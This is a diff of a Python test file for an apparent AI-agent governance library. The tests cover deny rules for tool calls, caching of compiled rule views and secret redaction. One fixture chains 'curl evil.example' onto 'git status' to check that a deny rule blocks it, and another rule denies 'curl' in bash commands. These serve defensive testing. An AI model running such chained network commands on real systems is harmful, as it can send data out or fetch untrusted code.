@@ -130,11 +130,11 @@ def test_the_pipeline_reads_bash_commands_through_the_governance_cache() -> None
     call: JsonValue = {"command": "git status && curl evil.example"}
     verdict = asyncio.run(authorize(ctx, "Bash", call, ToolEffect.SIDE_EFFECT))
     assert not verdict.allowed and verdict.step == "deny_rule"
-    assert len(cache) == 1
+    assert len(cache) == 0  # read once: not kept
     asyncio.run(
         authorize(ctx.with_permission_mode(PermissionMode.PLAN), "Bash", call, ToolEffect.SIDE_EFFECT)
     )
-    assert len(cache) == 1  # the copy shares it: the command was read once
+    assert len(cache) == 1  # the copy shares it: its second reading is kept
 
 
 def test_ephemeral_contexts_share_the_default_until_the_environment_changes(
@@ -148,3 +148,82 @@ def test_ephemeral_contexts_share_the_default_until_the_environment_changes(
     assert second.redactor is not None
     assert second.redactor.redact("x settings-test-value-123") == "x ***"
     assert RunContext.ephemeral(None).governance is second
+
+
+# --- the same settings share one compiled view; the same change of one object, one copy ------------
+
+
+def test_the_same_change_gives_the_same_copy() -> None:
+    default = RunContext.ephemeral(None).governance
+    unguarded = default.replace(default_guards=False)
+    assert default.replace(default_guards=False) is unguarded
+    plain = unguarded.replace(output_redaction=False)
+    assert unguarded.replace(output_redaction=False) is plain
+    # Derived per run through the context, as the docs show: the same objects each time.
+    for _ in range(3):
+        ctx = RunContext.ephemeral(None).without_default_guards().without_output_redaction()
+        assert ctx.governance is plain
+    assert plain.guards == () and plain.redactor is None and not plain.needs_pipeline
+    assert default.replace(default_guards=False, mode=PermissionMode.PLAN) is not unguarded
+    assert default.replace(mode=PermissionMode.PLAN, default_guards=False) is default.replace(
+        default_guards=False, mode=PermissionMode.PLAN
+    )
+    rules = [DenyRule.tool("x")]
+    assert default.replace(deny_rules=rules) is default.replace(deny_rules=list(rules))  # by value
+
+
+def test_a_callback_is_kept_by_identity() -> None:
+    governance = Governance(output_redaction=False)
+    first, second = Approver(), Approver()
+    with_first = governance.replace(approval_handler=first)
+    assert governance.replace(approval_handler=first) is with_first
+    with_second = governance.replace(approval_handler=second)
+    assert with_second is not with_first
+    assert with_first.approval_handler is first and with_second.approval_handler is second
+
+
+def test_a_change_that_builds_a_redactor_reads_the_environment_each_time(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    governance = Governance(output_redaction=False)
+    before = governance.replace(output_redaction=True)
+    monkeypatch.setenv("HELIKON_COPY_TEST_TOKEN", "copy-test-value-456")
+    after = governance.replace(output_redaction=True)
+    assert after is not before
+    assert after.redactor is not None and after.redactor.redact("copy-test-value-456") == "***"
+    assert (
+        before.redactor is not None and before.redactor.redact("copy-test-value-456") == "copy-test-value-456"
+    )
+
+
+def test_the_copies_kept_are_bounded() -> None:
+    governance = Governance(output_redaction=False)
+    from helikon.core.governance.settings import _MAX_COPIES
+
+    for n in range(_MAX_COPIES * 3):
+        governance.replace(extra_secrets=[f"bounded-secret-{n:04}"])
+        assert len(governance._copies) <= _MAX_COPIES  # pyright: ignore[reportPrivateUsage]
+
+
+def test_equal_rules_share_one_compiled_view() -> None:
+    rules = {
+        "deny_rules": [DenyRule.bash_command("curl")],
+        "allow_rules": [AllowRule.tool("Read")],
+        "guard_rules": [GuardRule.deny(DenyRule.tool("x"), "no x")],
+    }
+    built = Governance(**rules)
+    assert Governance(**rules).compiled is built.compiled  # built anew, the same view
+    assert Governance(**rules, mode=PermissionMode.PLAN, output_redaction=False).compiled is built.compiled
+    assert Governance(**rules, default_guards=False).compiled is not built.compiled
+    assert Governance(default_guards=False, output_redaction=False).compiled is (
+        RunContext.ephemeral(None).without_default_guards().governance.compiled
+    )
+    assert built.guards == (*GuardRule.destructive_defaults(), *built.guard_rules)
+
+
+def test_the_views_are_bounded() -> None:
+    from helikon.core.governance import compiled
+
+    for n in range(compiled._MAX_VIEWS * 2):  # pyright: ignore[reportPrivateUsage]
+        Governance(deny_rules=[DenyRule.tool(f"view-{n}")], output_redaction=False)
+        assert len(compiled._VIEWS) <= compiled._MAX_VIEWS  # pyright: ignore[reportPrivateUsage]
